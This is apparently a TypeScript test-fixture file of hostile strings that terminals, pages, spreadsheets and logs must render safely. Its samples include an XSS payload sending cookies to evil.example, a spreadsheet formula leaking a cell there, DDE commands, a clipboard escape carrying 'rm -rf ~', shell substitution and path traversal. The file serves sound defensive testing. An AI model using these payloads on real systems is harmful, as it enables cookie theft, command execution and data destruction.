/**
 * Texts that attack whoever shows them: everything an agent can put into a statement, a value or a name. Terminal, page,
 * spreadsheet and log file must survive each of them. All are valid Unicode: what is not never becomes a record, except
 * as bytes.
 */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

export const hostileTexts: readonly HostileText[] = [
  { name: "a script element", text: "<script>alert(1)</script>" },
  { name: "an image that fails", text: `<img src=x onerror="fetch('//evil.example/'+document.cookie)">` },
  { name: "the end of an attribute", text: `"><svg/onload=alert(1)>` },
  { name: "the end of a script in JSON", text: "</script><script>alert(1)</script><!--" },
  { name: "a link that runs", text: "[click](javascript:alert(1))" },
  { name: "a template", text: "{{constructor.constructor('alert(1)')()}} #{7*7} <%= 7*7 %>" },
  { name: "a cleared screen", text: "\x1b[2J\x1b[H\x1b[31mall is well\x1b[0m" },
  { name: "a window title", text: "\x1b]0;root@production\x07" },
  { name: "a link of the terminal", text: "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\" },
  { name: "a clipboard write", text: "\x1b]52;c;cm0gLXJmIH4K\x07" },
  { name: "a device query, which types the answer", text: "\x1b[6n\x1b[c\x1bP$qm\x1b\\" },
  { name: "C1 controls", text: "\x9b2J\x9d0;title\x9c\x90q\x9c" },
  { name: "a hidden line by carriage return", text: "DROP TABLE users; --\rSELECT 1             " },
  { name: "a line by backspaces", text: `DELETE FROM users${"\b".repeat(17)}SELECT 1` },
  {
    name: "a forged record line",
    text: "x\n2026-01-01 00:00:00.000  info  db.statement.completed  shop  SELECT",
  },
  { name: "a forged line of JSON", text: 'x"}\n{"index":0,"type":"ledger.created"}' },
  { name: "line breaks of other kinds", text: "a\u2028b\u2029c\u0085d\ve\ff" },
  { name: "NUL and friends", text: "a\u0000b\u0001c\u001fd\u007fe" },
  { name: "reordered text", text: "SELECT \u202e'nimda'\u202c --\u2066 ; \u2069" },
  { name: "Trojan source", text: "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */" },
  { name: "zero width", text: "us\u200bers\u200c\u200d\u2060\ufeff" },
  { name: "tags, which nobody sees", text: "SELECT 1\u{e0001}\u{e0064}\u{e0072}\u{e006f}\u{e0070}\u{e007f}" },
  { name: "variation selectors and fillers", text: "a\ufe0f\u{e0100}\u3164\u115f\uffa0\u034f\u180e\u00ad" },
  { name: "a stack of accents", text: `z${"\u0300\u0336\u0489".repeat(200)}` },
  { name: "a formula", text: '=HYPERLINK("https://evil.example/?"&A1,"ok")' },
  { name: "a command by DDE", text: "=cmd|' /C calc'!A0" },
  { name: "formulas by other signs", text: "+1+1" },
  { name: "a formula by minus", text: "-2+3+cmd|' /C calc'!A0" },
  { name: "a formula by at", text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "a formula after a tab", text: "\t=1+1" },
  { name: "a formula after a carriage return", text: "\r=1+1" },
  { name: "a formula after spaces", text: "  =1+1" },
  { name: "a formula in full width", text: "\uff1d1+1" },
  { name: "a formula on a quoted line", text: 'ok","\n=1+1\n","ok' },
  { name: "the quotes of CSV", text: '"","",""\r\n"a","b' },
  { name: "an imported row of commas and semicolons", text: ";=1+1,=1+1\t=1+1" },
  {
    name: "the members of every object",
    text: '__proto__ constructor toString {"__proto__":{"admin":true}}',
  },
  { name: "JSON that does not end", text: '{"a":[[[["\\' },
  { name: "escapes that are escaped", text: "\\u001b[2J \\x1b[2J \\n \\\\" },
  { name: "format strings", text: "%s%s%n %d {0} {target} $& $1 $`" },
  { name: "shell", text: "$(touch /tmp/owned) `touch /tmp/owned` ; touch /tmp/owned" },
  { name: "a path", text: "../../../../etc/passwd" },
  { name: "emoji in families", text: "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}" },
  { name: "characters outside of the first plane", text: "\u{10ffff}\u{1d54a}\u{1f4a9}" },
];

/** One line that is longer than anybody expects. */
export const longLine: string = `SELECT '${"0123456789abcdef".repeat(65_536)}'`;

/** What may not reach a screen as it is, except a line's end. The colours of our own are `\x1b[…m`. */
export const dangerousOnScreen: RegExp = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
